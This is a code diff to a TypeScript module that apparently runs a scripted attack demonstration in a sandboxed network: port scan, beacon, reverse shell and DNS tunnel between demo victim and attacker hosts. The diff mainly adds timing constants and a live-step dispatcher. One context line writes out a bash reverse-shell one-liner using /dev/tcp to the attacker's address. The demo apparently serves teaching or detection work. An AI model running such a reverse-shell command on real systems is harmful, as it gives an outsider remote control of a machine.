@@ -2,13 +2,17 @@
 // network namespace (demo-worker.ts, bash, tcpdump). Every function returns one line saying
 // what the tool itself reported.
 import type { Actor, ActorReport, DemoActors } from './demo-actors';
+import type { DemoRecording } from './demo-recording';
+import type { StepId } from './demo-scenario';
 import { ATTACKER, COMMAND_SERVER, DEMO_PORTS, TUNNEL_DOMAIN, VICTIM } from './demo-topology';
 
 /** TCP ports the scan tries: the first hundred and the victim's web app. */
 export const SCAN_PORTS = '1-100,8080';
-export const BEACON_COUNT = 12;
+export const BEACON_COUNT = 8;
 export const BEACON_INTERVAL_MS = 2_000;
 export const TUNNEL_MAX_QUERIES = 40;
+/** How long the attacker waits for the reverse shell to call back. */
+export const SHELL_WAIT_MS = 5_000;
 
 export interface HostServices {
   readonly victim: Actor;
@@ -65,12 +69,12 @@ export async function reverseShell(actors: DemoActors): Promise<{ result: string
     `sh -i >& /dev/tcp/${ATTACKER.address}/${DEMO_PORTS.reverseShell} 0>&1`,
   ]);
   const closed = await listener
-    .waitFor('shell-closed', 8_000)
+    .waitFor('shell-closed', SHELL_WAIT_MS)
     .catch(() => undefined as ActorReport | undefined);
   if (!closed) {
     return {
       pid: shell.pid,
-      result: 'the shell never reached the attacker (no session within 8 s)',
+      result: `the shell never reached the attacker (no session within ${SHELL_WAIT_MS / 1000} s)`,
     };
   }
   const output = String(closed['output'])
@@ -138,4 +142,24 @@ export async function probe(actors: DemoActors): Promise<string> {
   ]);
   const done = await prober.waitFor('probe', 15_000);
   return String(done['result']);
+}
+
+/** One step of the attack in live mode (the beacon runs in the background: startBeacon). */
+export async function runLiveStep(
+  id: Exclude<StepId, 'beacon'>,
+  actors: DemoActors,
+  recording: DemoRecording | undefined,
+): Promise<string> {
+  switch (id) {
+    case 'scan':
+      return scan(actors);
+    case 'reverse-shell': {
+      const startedAtMs = Date.now();
+      const { result, pid } = await reverseShell(actors);
+      recording?.followProcessTree(pid, startedAtMs);
+      return result;
+    }
+    case 'dns-tunnel':
+      return dnsTunnel(actors);
+  }
 }
